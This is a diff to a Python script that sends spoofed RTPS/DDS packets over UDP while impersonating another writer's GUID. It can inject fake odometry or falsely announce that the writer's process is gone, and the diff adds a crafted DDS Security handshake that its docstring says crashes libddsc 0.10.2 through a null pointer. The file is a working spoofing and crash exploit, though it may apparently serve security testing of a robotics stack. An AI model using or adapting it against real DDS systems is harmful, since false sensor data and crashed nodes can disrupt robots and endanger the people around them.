@@ -1,9 +1,9 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: BSD-3-Clause
-"""Sends plain RTPS as if it came from another: odometry of a frame that nobody has, from its writer; or that its whole
-process is gone.
+"""Sends plain RTPS as if it came from another: odometry of a frame that nobody has, from its writer; that its whole process
+is gone; or a handshake of DDS Security that is none, and a null pointer in libddsc 0.10.2.
 
-spoofed_packets.py DOMAIN WRITER odometry|gone     WRITER: its GUID, as the daemon says from whom it takes odometry
+spoofed_packets.py DOMAIN WRITER odometry|gone|key     WRITER: its GUID, as the daemon says from whom it takes odometry
 """
 import socket
 import struct
@@ -40,9 +40,14 @@ def gone(writer: bytes, number: int) -> bytes:
     return data(0x0b, bytes.fromhex("000100c2"), number, status + key)
 
 
+def key(_writer: bytes, number: int) -> bytes:
+    """A handshake of DDS Security that is a key in place of data."""
+    return data(0x09, bytes.fromhex("000201c3"), number, b"\0\1\0\0" + bytes(64))
+
+
 def main() -> int:
     domain, writer = int(sys.argv[1]), bytes.fromhex(sys.argv[2].replace(":", ""))
-    message, port = {"odometry": (odometry, 11), "gone": (gone, 10)}[sys.argv[3]]
+    message, port = {"odometry": (odometry, 11), "gone": (gone, 10), "key": (key, 10)}[sys.argv[3]]
     out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     for number in range(50):
         packet = b"RTPS\2\1\1\x10" + writer[:12] + message(writer, 1 << 30 | number)
